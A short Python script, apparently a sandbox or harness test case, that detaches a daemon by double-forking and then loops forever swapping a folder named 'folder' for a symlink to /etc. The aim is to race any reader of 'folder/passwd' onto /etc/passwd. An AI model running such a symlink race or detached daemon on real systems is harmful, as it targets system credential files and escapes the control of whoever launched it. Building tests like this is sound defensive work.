"""A daemon swaps a folder for a link while it is read, in the hope to outlive the script that started it."""

import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    while True:
        os.mkdir("folder")
        with open("folder/passwd", "w") as file:
            file.write("mine")
        os.rename("folder", "moved")
        os.symlink("/etc", "folder")
        os.unlink("folder")
        os.unlink("moved/passwd")
        os.rmdir("moved")
time.sleep(0.3)
